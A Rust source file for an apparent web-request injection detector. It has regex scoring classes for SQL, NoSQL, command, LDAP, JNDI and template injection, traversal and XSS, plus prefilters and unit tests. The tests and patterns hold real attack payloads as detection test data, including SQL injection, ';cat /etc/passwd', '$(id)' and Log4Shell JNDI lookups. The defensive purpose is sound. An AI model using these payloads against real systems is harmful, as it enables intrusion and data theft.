//! Injection classifiers: each scores the evidence in every input and fires at a threshold.
//! Strong signs (a `union select`, `sleep(5)`, `${jndi:`, `../../etc/passwd`) fire alone; weak
//! ones (a quote, `--`, `or`) need company. Patterns are regexes (linear time: the `regex`
//! crate never backtracks, so a crafted input cannot stall a worker).

use std::sync::LazyLock;

use regex::RegexSet;

use super::{Detector, Inputs};

struct Class {
    det: Detector,
    /// (pattern, points)
    pats: Vec<(&'static str, u32)>,
    threshold: u32,
}

fn class(det: Detector, threshold: u32, pats: &[(&'static str, u32)]) -> Class {
    Class {
        det,
        pats: pats.to_vec(),
        threshold,
    }
}

static CLASSES: LazyLock<Vec<Class>> = LazyLock::new(|| {
    vec![
        class(
            Detector::Sqli,
            3,
            &[
                (r"\bunion\b[\s/*()]+(all[\s/*()]+)?select\b", 3),
                (r"\b(sleep|pg_sleep|benchmark)\s*\(\s*\d", 3),
                (r"\bwaitfor\s+delay\b", 3),
                (
                    r"\binformation_schema\b|\bsysobjects\b|\bsqlite_master\b|\bpg_catalog\b",
                    3,
                ),
                (
                    r"\b(extractvalue|updatexml|load_file|xp_cmdshell|utl_inaddr|dbms_pipe)\s*\(",
                    3,
                ),
                (r"@@version|\bversion\(\)|\bdatabase\(\)|\buser\(\)", 2),
                (
                    r#"['"`)]\s*(or|and|xor|\|\||&&)\s+['"(]?\w+['"]?\s*(=|<|>|like\b|is\b)"#,
                    3,
                ),
                (r#"['"`)]\s*(or|and)\s+\d+\s*=\s*\d+"#, 3),
                (r"\b(or|and)\s+\d+\s*=\s*\d+\s*(--|#|/\*|$)", 2),
                (r"(^|/)\s*-?\d+\s+(or|and)\s+\d+\s*=\s*\d+", 3),
                (
                    r#"['"`)]\s*;\s*(select|insert|update|delete|drop|exec|declare|shutdown)\b"#,
                    3,
                ),
                (r#"['"`)]\s*(--|#|/\*)"#, 1),
                (r"\border\s+by\s+\d+\s*(--|#|/\*)", 2),
                (r"\bselect\b.{1,80}\bfrom\b", 1),
                (r"\b(cast|convert|concat|char|chr|substring|ascii)\s*\(", 1),
                (r"\bnull\s*,\s*null\b", 2),
                (r#"['"]\s*(and|or)\s*['"]?\d"#, 1),
                (r"0x[0-9a-f]{8,}", 1),
            ],
        ),
        class(
            Detector::Nosqli,
            2,
            &[
                (
                    r#"\[\s*\$(ne|gt|gte|lt|lte|nin|in|regex|where|exists|eq|not|or|and|expr)\s*\]"#,
                    2,
                ),
                (
                    r#""\$(ne|gt|gte|lt|lte|nin|in|regex|where|exists|not|or|and|expr)"\s*:"#,
                    2,
                ),
                (r"\$where\b|\bsleep\(\d+\)\s*\|\||this\.\w+\s*==", 2),
            ],
        ),
        class(
            Detector::Cmdi,
            2,
            &[
                (
                    // a command word, not a `;name=value` matrix parameter or a `&name=` pair
                    r"(;|\|\|?|&&|\n|`|\$\()\s*(cat|id|ls|uname|whoami|wget|curl|nc|ncat|bash|sh|ping|nslookup|sleep|echo|powershell|cmd)([\s;|&<>`)'\x22]|$)",
                    2,
                ),
                (r"/bin/(ba)?sh\b|cmd\.exe|/etc/passwd|/etc/shadow", 1),
                (r"\$\{ifs\}|\$ifs\$", 2),
            ],
        ),
        class(
            Detector::Traversal,
            2,
            &[
                (r"(\.\.[/\\]){2,}", 2),
                (r"\.\.[/\\]", 1),
                (r"/etc/(passwd|shadow|hosts|issue)\b|boot\.ini|win\.ini|/proc/self/", 2),
                (r"^(file:|/|[a-z]:\\).*(passwd|win\.ini)", 1),
            ],
        ),
        class(
            Detector::Xss,
            2,
            &[
                (
                    r"<\s*(script|iframe|svg|object|embed|img|body|details|video|audio|math)\b",
                    2,
                ),
                (r"\bjavascript\s*:", 2),
                (
                    r"\bon(error|load|mouseover|focus|click|toggle|begin|animationstart)\s*=",
                    2,
                ),
                (r"\b(alert|prompt|confirm)\s*[(`]", 1),
                (r"document\.(cookie|location|domain)", 1),
            ],
        ),
        class(
            Detector::Ssti,
            2,
            &[
                (r"\{\{\s*[\d\w.'\x22]+\s*[*+]\s*[\d\w.'\x22]+\s*\}\}", 2),
                (r"\$\{\s*\d+\s*[*+]\s*\d+\s*\}", 2),
                (r"<%=?.{0,40}%>", 2),
                (
                    r"\{\{.{0,60}(__class__|__mro__|__subclasses__|__globals__|config\.items|self\._)",
                    2,
                ),
                (r"#\{\s*\d+\s*\*\s*\d+\s*\}", 2),
            ],
        ),
        class(
            Detector::Ldap,
            2,
            &[
                (r"\*\)\s*\(\s*[|&!]?\s*\(?\w+\s*=", 2),
                (r"\)\s*\(\s*\|\s*\(", 2),
                (r"\*\)\(\w+=\*", 2),
            ],
        ),
        class(
            Detector::Jndi,
            2,
            &[
                (r"\$\{\s*jndi\s*:", 2),
                (r"\$\{[^}]{0,40}\$\{\s*(lower|upper|::-|env|date|sys|java|base64)", 2),
                (
                    r"\$\{.{0,60}j.{0,30}n.{0,30}d.{0,30}i.{0,30}:.{0,30}(ldap|rmi|dns|iiop|http)",
                    2,
                ),
            ],
        ),
    ]
});

/// Cap on the text scanned per input: payloads sit at the front; bodies can be 64 KiB.
pub(super) const SCAN_CAP: usize = 4096;

/// Bytes by class, for the checks below (a table lookup per byte, not a search of a list).
const fn byte_table(extra: &[u8], alnum: bool, alpha: bool) -> [bool; 256] {
    let mut t = [false; 256];
    let mut c = 0;
    while c < 256 {
        let b = c as u8;
        t[c] = (alnum && b.is_ascii_alphanumeric()) || (alpha && b.is_ascii_alphabetic());
        c += 1;
    }
    let mut i = 0;
    while i < extra.len() {
        t[extra[i] as usize] = true;
        i += 1;
    }
    t
}
static INERT: [bool; 256] = byte_table(b"._-@:+", true, false);
static WORDS: [bool; 256] = byte_table(b" .,'-", false, true);

/// Identifiers, numbers, e-mail addresses, UUIDs, tokens, dates: nothing to score.
pub fn inert(t: &str) -> bool {
    t.bytes().all(|b| INERT[b as usize])
}

/// Values the injection classifiers never look at: short, identifier-like, or plain words.
pub fn skipped(t: &str) -> bool {
    t.len() < 3 || inert(t) || words(t)
}

/// [`skipped`] of `t` whose byte classes ([`super::class::of`]) are `c`: the table pass
/// already made answers the ASCII cases without walking `t` again.
pub fn skipped_by(t: &str, c: u16) -> bool {
    use super::class::{NON_ASCII, NOT_INERT, NOT_WORDS};
    if t.len() < 3 || c & NOT_INERT == 0 {
        return true;
    }
    if c & NON_ASCII != 0 {
        return words(t);
    }
    t.len() <= 64 && c & NOT_WORDS == 0
}

/// Literals one of which a value made only of `a-z 0-9 / . _ -` (no class
/// [`super::class::NOT_PLAIN_PATH`] byte) holds when any pattern matches it. Every other
/// pattern needs a byte outside that set (a space, quote, parenthesis, `<`, `=`, `:`, `$`,
/// `;`, `,`, `@`, `*`, `{`...). By pattern: union select (`union`), information_schema /
/// sysobjects / sqlite_master / pg_catalog, select..from (`select`), 0x..., /bin/sh,
/// cmd.exe, /etc/passwd (`/etc/`), `../`, /etc/hosts, boot.ini, win.ini, /proc/self/,
/// `^/...passwd`, document.cookie (`document.`). Checked against the patterns by
/// `plain_paths_without_a_literal_match_no_pattern`.
const PLAIN_PATH_LITERALS: [&[u8]; 16] = [
    b"union",
    b"select",
    b"information_schema",
    b"sysobjects",
    b"sqlite_master",
    b"pg_catalog",
    b"0x",
    b"/bin/",
    b"cmd.exe",
    b"/etc/",
    b"../",
    b"boot.ini",
    b"win.ini",
    b"/proc/self/",
    b"passwd",
    b"document.",
];

/// The literals' first two bytes, as a bit per byte pair (the test [`FIRST`] and [`SECOND`]
/// must agree with, see `literal_byte_tables_are_the_literal_pairs`).
#[cfg(test)]
static LITERAL_PAIRS: [u64; 1024] = literal_pairs();

#[cfg(test)]
const fn literal_pairs() -> [u64; 1024] {
    let mut t = [0u64; 1024];
    let mut i = 0;
    while i < PLAIN_PATH_LITERALS.len() {
        let l = PLAIN_PATH_LITERALS[i];
        assert!(l.len() >= 2);
        let k = (l[0] as usize) << 8 | l[1] as usize;
        t[k >> 6] |= 1 << (k & 63);
        i += 1;
    }
    t
}

/// Per byte, the literals (a bit each, by position in [`PLAIN_PATH_LITERALS`]) it is the
/// first byte of, and the ones it is the second byte of. Two bytes `a b` start a literal
/// exactly when `FIRST[a] & SECOND[b] != 0` (the same literal's bit in both; each literal
/// has its own first two bytes): most positions of a value are ruled out by two loads.
static FIRST: [u16; 256] = literal_bytes(0);
static SECOND: [u16; 256] = literal_bytes(1);

const fn literal_bytes(at: usize) -> [u16; 256] {
    assert!(PLAIN_PATH_LITERALS.len() <= 16);
    let mut t = [0u16; 256];
    let mut i = 0;
    while i < PLAIN_PATH_LITERALS.len() {
        assert!(PLAIN_PATH_LITERALS[i].len() >= 2);
        t[PLAIN_PATH_LITERALS[i][at] as usize] |= 1 << i;
        i += 1;
    }
    t
}

/// Could a pattern match `t`, whose byte classes are `c`? False proves it cannot (a path
/// like `/api/v1/users/97118`, `application/json`): no pattern search, no cache look.
pub fn may_match(t: &str, c: u16) -> bool {
    if c & super::class::NOT_PLAIN_PATH != 0 {
        return true;
    }
    let b = t.as_bytes();
    // a tight loop: two loads and a test per position (byte-indexed tables: no bounds
    // check), the literals compared only where a pair starts one
    let Some((&first, rest)) = b.split_first() else {
        return false;
    };
    let mut starts = FIRST[first as usize];
    for (i, &x) in rest.iter().enumerate() {
        if starts & SECOND[x as usize] != 0 && literal_at(&b[i..]) {
            return true;
        }
        starts = FIRST[x as usize];
    }
    false
}

/// Does `r` start with one of the literals? Asked where a literal's first two bytes are (kept
/// out of [`may_match`]'s loop, which stays a few instructions a byte).
#[cold]
#[inline(never)]
fn literal_at(r: &[u8]) -> bool {
    // each literal has its own first two bytes: one comparison after the match (the list
    // and this match are kept equal by `every_literal_is_found_where_it_starts`)
    let l: &[u8] = match r {
        [b'u', b'n', ..] => b"union",
        [b's', b'e', ..] => b"select",
        [b'i', b'n', ..] => b"information_schema",
        [b's', b'y', ..] => b"sysobjects",
        [b's', b'q', ..] => b"sqlite_master",
        [b'p', b'g', ..] => b"pg_catalog",
        [b'0', b'x', ..] => b"0x",
        [b'/', b'b', ..] => b"/bin/",
        [b'c', b'm', ..] => b"cmd.exe",
        [b'/', b'e', ..] => b"/etc/",
        [b'.', b'.', ..] => b"../",
        [b'b', b'o', ..] => b"boot.ini",
        [b'w', b'i', ..] => b"win.ini",
        [b'/', b'p', ..] => b"/proc/self/",
        [b'p', b'a', ..] => b"passwd",
        [b'd', b'o', ..] => b"document.",
        _ => return false,
    };
    r.starts_with(l)
}

/// Plain words (a name like "o'brien", "rock 'n' roll"): letters, spaces, `.,'-`, short.
pub fn words(t: &str) -> bool {
    if t.len() > 256 {
        return false;
    }
    if t.is_ascii() {
        // one byte per character: the common case, without decoding characters
        return t.len() <= 64 && t.bytes().all(|b| WORDS[b as usize]);
    }
    t.chars().count() <= 64 && t.chars().all(|c| c.is_alphabetic() || " .,'-".contains(c))
}

/// Every pattern of every class in one set, so each input is scanned once, not once per class:
/// (the set, and for each pattern its class and points).
static ALL: LazyLock<(RegexSet, Vec<(usize, u32)>)> = LazyLock::new(|| {
    let mut pats = Vec::new();
    let mut owner = Vec::new();
    for (ci, c) in CLASSES.iter().enumerate() {
        for (p, points) in &c.pats {
            pats.push(*p);
            owner.push((ci, *points));
        }
    }
    (RegexSet::new(&pats).unwrap_or_else(|_| RegexSet::empty()), owner)
});

/// Per-thread memory of values that matched no pattern: direct-mapped, 4096 slots, values up
/// to 256 bytes, compared whole (a slot holds one value; a colliding value evicts it).
mod clean {
    use std::cell::RefCell;

    const SLOTS: usize = 4096;
    const MAX: usize = 256;

    thread_local! {
        static SEEN: RefCell<Vec<Box<str>>> = const { RefCell::new(Vec::new()) };
    }

    fn slot(t: &str) -> usize {
        t.bytes().fold(0xcbf2_9ce4_8422_2325u64, |h, b| {
            (h ^ b as u64).wrapping_mul(0x100_0000_01b3)
        }) as usize
            % SLOTS
    }

    pub fn seen(t: &str) -> bool {
        t.len() <= MAX && SEEN.with(|s| s.borrow().get(slot(t)).is_some_and(|v| &**v == t))
    }

    pub fn add(t: &str) {
        if t.len() > MAX {
            return;
        }
        SEEN.with(|s| {
            let mut s = s.borrow_mut();
            if s.is_empty() {
                s.resize(SLOTS, Box::from(""));
            }
            let i = slot(t);
            s[i] = t.into();
        });
    }
}

/// Every injection classifier that fires, with where (its first input that scores) and a
/// short excerpt.
pub fn scan(inputs: &Inputs) -> Vec<(Detector, String)> {
    let (set, owner) = &*ALL;
    // made on the first value that matches a pattern (most transactions have none)
    let mut fired: Vec<Option<String>> = Vec::new();
    for (at, text) in &inputs.parts {
        let t = super::cut(text, SCAN_CAP);
        // one table pass over what is searched; a value longer than that is judged by the
        // walks that stop early
        let c = super::class::of(t.as_bytes());
        let skip = if t.len() == text.len() {
            skipped_by(text, c)
        } else {
            skipped(text)
        };
        if skip {
            continue; // a name like "o'brien" or plain words carry nothing
        }
        if !may_match(t, c) {
            continue; // a plain path or media type: no pattern can match it
        }
        // Values repeat (a client's user agent and accept headers, enum-like fields): one seen
        // to match no pattern lately is not searched again. Then one pass that stops at the
        // first pattern (most values match none) before the pass that lists every pattern.
        if clean::seen(t) {
            continue;
        }
        if !set.is_match(t) {
            clean::add(t);
            continue;
        }
        let hits = set.matches(t);
        if !hits.matched_any() {
            continue;
        }
        if fired.is_empty() {
            fired.resize(CLASSES.len(), None);
        }
        let mut score = vec![0u32; CLASSES.len()];
        for i in hits.iter() {
            let (ci, points) = owner[i];
            score[ci] += points;
        }
        for (ci, c) in CLASSES.iter().enumerate() {
            if fired[ci].is_none() && score[ci] >= c.threshold {
                let ex = if super::secret_part(at) {
                    "(a secret field's value)".to_string()
                } else {
                    let mut ex: String = super::strip_userinfo(t).chars().take(96).collect();
                    ex.retain(|ch| !ch.is_control());
                    ex
                };
                fired[ci] = Some(format!("{at}: {ex}"));
            }
        }
    }
    if fired.is_empty() {
        return Vec::new();
    }
    CLASSES
        .iter()
        .zip(fired)
        .filter_map(|(c, f)| f.map(|e| (c.det, e)))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn byte_tables_are_the_listed_classes() {
        for b in 0..=255u8 {
            assert_eq!(
                INERT[b as usize],
                b.is_ascii_alphanumeric() || b"._-@:+".contains(&b),
                "{b}"
            );
            assert_eq!(
                WORDS[b as usize],
                b.is_ascii_alphabetic() || b" .,'-".contains(&b),
                "{b}"
            );
        }
    }

    #[test]
    fn words_fast_path_agrees_with_the_character_rule() {
        let slow = |t: &str| {
            t.len() <= 256 && t.chars().count() <= 64 && t.chars().all(|c| c.is_alphabetic() || " .,'-".contains(c))
        };
        let long = "a".repeat(64);
        let longer = "a".repeat(65);
        let accents = "é".repeat(64);
        let cases = [
            "o'brien",
            "rock 'n' roll",
            "gzip, deflate",
            "a1",
            "",
            "x;y",
            long.as_str(),
            longer.as_str(),
            accents.as_str(),
            "café au lait",
            "naïve-text.",
            "tab\there",
            "日本語",
            "select * from",
        ];
        for c in cases {
            assert_eq!(words(c), slow(c), "{c:?}");
        }
    }
    use crate::detect::normalize;

    fn fires(s: &str) -> Vec<&'static str> {
        let inputs = Inputs {
            parts: vec![("query:q".into(), normalize(s).into())],
            ..Inputs::default()
        };
        scan(&inputs).into_iter().map(|(d, _)| d.as_str()).collect()
    }

    #[test]
    fn true_positives() {
        for (p, want) in [
            ("1' OR '1'='1", "sqli"),
            ("1%27%20UNION%20SELECT%20username,password%20FROM%20users--", "sqli"),
            ("1 AND SLEEP(5)", "sqli"),
            ("1%20OR%201=1", "sqli"),
            ("x') AND 1=1 --", "sqli"),
            ("%2527%20or%201%3D1--", "sqli"),
            ("1;WAITFOR DELAY '0:0:5'--", "sqli"),
            ("[$ne]=1", "nosqli"),
            ("{\"username\":{\"$ne\":null}}", "nosqli"),
            (";cat /etc/passwd", "cmdi"),
            ("127.0.0.1 && whoami", "cmdi"),
            ("$(id)", "cmdi"),
            ("../../../../etc/passwd", "traversal"),
            ("..%252f..%252f..%252fetc%252fpasswd", "traversal"),
            ("<script>alert(1)</script>", "xss"),
            ("\"><img src=x onerror=alert(1)>", "xss"),
            ("{{7*7}}", "ssti"),
            ("${7*7}", "ssti"),
            ("*)(uid=*))(|(uid=*", "ldap"),
            ("${jndi:ldap://10.0.0.9:1389/a}", "jndi"),
            ("${${lower:j}ndi:${lower:l}dap://x/a}", "jndi"),
        ] {
            assert!(fires(p).contains(&want), "{p} -> {:?}, wanted {want}", fires(p));
        }
    }

    #[test]
    fn near_misses_stay_quiet() {
        for p in [
            "O'Brien",
            "Conan O'Brien's and Mary's",
            "rock 'n' roll",
            "select a size",
            "price > 10 and < 20",
            "SELECT",
            "1-2-3",
            "a/b/c/../d",
            "john.doe@example.com",
            "{\"name\":\"x\",\"qty\":3}",
            "why union members select leaders",
            "tom & jerry",
            "cats; dogs",
            "100% cotton",
            "2024-01-01T00:00:00Z",
            "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
            "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
        ] {
            assert!(fires(p).is_empty(), "{p} -> {:?}", fires(p));
        }
    }
}

/// The prefilters against the patterns themselves: the same verdicts with and without them.
#[cfg(test)]
mod prefilter_tests {
    /// (length, FNV-1a) of the patterns, one per line, in class order.
    const PATTERNS_FINGERPRINT: (usize, u64) = (1920, 0xce90_8a77_7f8c_e14b);
    use super::*;
    use crate::detect::class;

    /// A small deterministic generator (no dependency): xorshift.
    struct Rng(u64);
    impl Rng {
        fn next(&mut self) -> u64 {
            self.0 ^= self.0 << 13;
            self.0 ^= self.0 >> 7;
            self.0 ^= self.0 << 17;
            self.0
        }
        fn pick<'a>(&mut self, v: &[&'a str]) -> &'a str {
            v[(self.next() % v.len() as u64) as usize]
        }
    }

    /// Pieces of the patterns and of ordinary values, in `a-z 0-9 / . _ -` only.
    const PIECES: [&str; 58] = [
        "union",
        "select",
        "from",
        "all",
        "information_schema",
        "schema",
        "sysobjects",
        "sqlite_master",
        "pg_catalog",
        "catalog",
        "0x",
        "0x1234abcd",
        "0xdeadbeef00",
        "/bin/",
        "/bin/sh",
        "/bin/bash",
        "bin",
        "sh",
        "cmd.exe",
        "cmd",
        ".exe",
        "/etc/",
        "/etc/passwd",
        "/etc/shadow",
        "/etc/hosts",
        "/etc/issue",
        "etc",
        "../",
        "..",
        ".",
        "/",
        "boot.ini",
        "win.ini",
        "ini",
        "/proc/self/",
        "proc",
        "self",
        "passwd",
        "document.",
        "document.cookie",
        "cookie",
        "location",
        "api",
        "v1",
        "users",
        "97118",
        "sku-12",
        "application",
        "json",
        "-",
        "_",
        "sleep",
        "version",
        "user",
        "database",
        "or",
        "and",
        "order",
    ];

    #[test]
    fn plain_paths_without_a_literal_match_no_pattern() {
        // (see the_patterns_are_the_ones_the_plain_path_literals_were_derived_from)
        let (set, _) = &*ALL;
        let mut rng = Rng(0x9e37_79b9_7f4a_7c15);
        let mut skipped_matches = 0;
        for _ in 0..40_000 {
            let n = 1 + rng.next() % 6;
            let mut s = String::new();
            for _ in 0..n {
                s.push_str(rng.pick(&PIECES));
                if rng.next() % 3 == 0 {
                    s.push_str(rng.pick(&["/", "-", ".", "_", "1", ""]));
                }
            }
            let c = class::of(s.as_bytes());
            assert_eq!(c & class::NOT_PLAIN_PATH, 0, "{s}");
            let literal = PLAIN_PATH_LITERALS
                .iter()
                .any(|l| crate::util::contains_short(s.as_bytes(), l));
            assert_eq!(may_match(&s, c), literal, "{s}");
            if !literal {
                assert!(!set.is_match(&s), "{s} matches a pattern without a literal");
            } else if set.is_match(&s) {
                skipped_matches += 1;
            }
        }
        // the generator does reach the patterns that need no byte outside the set
        assert!(skipped_matches > 1000, "{skipped_matches}");
        // every byte outside the set makes a value a candidate
        for b in 0..=255u8 {
            let s = format!("api{}x", b as char);
            let c = class::of(s.as_bytes());
            if c & class::NOT_PLAIN_PATH != 0 {
                assert!(may_match(&s, c));
            }
        }
    }

    #[test]
    fn the_patterns_are_the_ones_the_plain_path_literals_were_derived_from() {
        // PLAIN_PATH_LITERALS is derived by hand from the patterns; the generated texts above
        // only reach what their pieces spell. A change to the patterns must come with a new
        // look at the literals (and the pieces): this fingerprint makes that change visible.
        let mut text = String::new();
        for c in CLASSES.iter() {
            for (p, _) in &c.pats {
                text.push_str(p);
                text.push('\n');
            }
        }
        let fnv = text.bytes().fold(0xcbf2_9ce4_8422_2325u64, |h, b| {
            (h ^ b as u64).wrapping_mul(0x100_0000_01b3)
        });
        assert_eq!(
            (text.len(), fnv),
            PATTERNS_FINGERPRINT,
            "the injection patterns changed: check PLAIN_PATH_LITERALS and PIECES against them, \
             then set PATTERNS_FINGERPRINT to ({}, {fnv:#x})",
            text.len()
        );
    }

    /// The two byte tables' test of a pair is the pair table's bit, for all 65,536 pairs,
    /// and both say "a literal starts here" exactly for the literals' first two bytes.
    #[test]
    fn literal_byte_tables_are_the_literal_pairs() {
        assert!(PLAIN_PATH_LITERALS.len() <= 16, "a bit per literal in a u16");
        for a in 0..=255u8 {
            for b in 0..=255u8 {
                let k = (a as usize) << 8 | b as usize;
                let pair = LITERAL_PAIRS[k >> 6] >> (k & 63) & 1 != 0;
                let bytes = FIRST[a as usize] & SECOND[b as usize] != 0;
                let listed = PLAIN_PATH_LITERALS.iter().any(|l| l[0] == a && l[1] == b);
                assert_eq!((bytes, pair), (listed, listed), "{a} {b}");
            }
        }
    }

    #[test]
    fn every_literal_is_found_where_it_starts() {
        for (i, l) in PLAIN_PATH_LITERALS.iter().enumerate() {
            assert!(literal_at(l), "{}", String::from_utf8_lossy(l));
            let mut longer = l.to_vec();
            longer.extend_from_slice(b"/x");
            assert!(literal_at(&longer));
            // one byte short is no literal
            assert!(!literal_at(&l[..l.len() - 1]), "{}", String::from_utf8_lossy(l));
            // the first two bytes name this literal only
            for (j, m) in PLAIN_PATH_LITERALS.iter().enumerate() {
                assert!(i == j || l[..2] != m[..2]);
            }
        }
        assert!(!literal_at(b""));
        assert!(!literal_at(b"u"));
    }

    #[test]
    fn skipped_by_classes_is_skipped() {
        let long_words = "a".repeat(64);
        let longer_words = "ab ".repeat(30);
        let huge = "é".repeat(200);
        for t in [
            "",
            "a",
            "ab",
            "abc",
            "o'brien",
            "rock 'n' roll",
            "gzip, deflate",
            "a1b2",
            "john.doe@example.com",
            "2024-01-01t00:00:00z",
            "x;y",
            "tab\there",
            "café au lait",
            "日本語",
            "é",
            "éé",
            "ééé",
            "naïve-text.",
            "select * from",
            "a+b",
            "a%20b",
            "UPPER words",
            "ÄÖÜ",
            long_words.as_str(),
            longer_words.as_str(),
            huge.as_str(),
            "a\u{0}b",
            "\u{7f}\u{7f}\u{7f}",
        ] {
            assert_eq!(skipped_by(t, class::of(t.as_bytes())), skipped(t), "{t:?}");
        }
    }

    fn inputs(values: &[&str]) -> Inputs<'static> {
        Inputs {
            parts: values
                .iter()
                .enumerate()
                .map(|(i, v)| (format!("query:p{i}").into(), crate::detect::normalize(v).into()))
                .collect(),
            ..Inputs::default()
        }
    }

    #[test]
    fn scan_with_prefilters_is_scan_without() {
        let far = format!("{}' union select 1--", "a".repeat(5000));
        let near_cap = format!("{}/etc/passwd", "b/".repeat(2043));
        let cases: Vec<Vec<&str>> = vec![
            vec!["/api/v1/users/97118", "shop-client/2.0", "application/json"],
            vec![
                "/api/v1/union/select/from/x",
                "/x/0x1234abcdef",
                "/static/../../etc/passwd",
            ],
            vec![
                "/etc/passwd",
                "/bin/sh",
                "/x/passwd",
                "cmd.exe",
                "document.cookie",
                "c:\\boot.ini",
            ],
            vec![
                "union/**/select",
                "UNION%2F%2A%2A%2FSELECT",
                "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
            ],
            vec![
                "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0",
                "text/html,application/xhtml+xml;q=0.9",
            ],
            vec![
                "1' OR '1'='1",
                "${jndi:ldap://x/a}",
                "<script>alert(1)</script>",
                "{{7*7}}",
            ],
            vec![far.as_str(), near_cap.as_str(), "", "ab", "é/é/é", "/caf%C3%A9/../../"],
        ];
        for c in &cases {
            let i = inputs(c);
            assert_eq!(scan(&i), scan_unfiltered(&i), "{c:?}");
        }
    }

    fn scan_unfiltered(inputs: &Inputs) -> Vec<(Detector, String)> {
        let (set, owner) = &*ALL;
        // made on the first value that matches a pattern (most transactions have none)
        let mut fired: Vec<Option<String>> = Vec::new();
        for (at, text) in &inputs.parts {
            if skipped(text) {
                continue; // a name like "o'brien" or plain words carry nothing
            }
            let t = crate::detect::cut(text, SCAN_CAP);
            // Values repeat (a client's user agent and accept headers, enum-like fields): one seen
            // to match no pattern lately is not searched again. Then one pass that stops at the
            // first pattern (most values match none) before the pass that lists every pattern.
            let hits = set.matches(t);
            if !hits.matched_any() {
                continue;
            }
            if fired.is_empty() {
                fired.resize(CLASSES.len(), None);
            }
            let mut score = vec![0u32; CLASSES.len()];
            for i in hits.iter() {
                let (ci, points) = owner[i];
                score[ci] += points;
            }
            for (ci, c) in CLASSES.iter().enumerate() {
                if fired[ci].is_none() && score[ci] >= c.threshold {
                    let ex = if crate::detect::secret_part(at) {
                        "(a secret field's value)".to_string()
                    } else {
                        let mut ex: String = crate::detect::strip_userinfo(t).chars().take(96).collect();
                        ex.retain(|ch| !ch.is_control());
                        ex
                    };
                    fired[ci] = Some(format!("{at}: {ex}"));
                }
            }
        }
        if fired.is_empty() {
            return Vec::new();
        }
        CLASSES
            .iter()
            .zip(fired)
            .filter_map(|(c, f)| f.map(|e| (c.det, e)))
            .collect()
    }
}
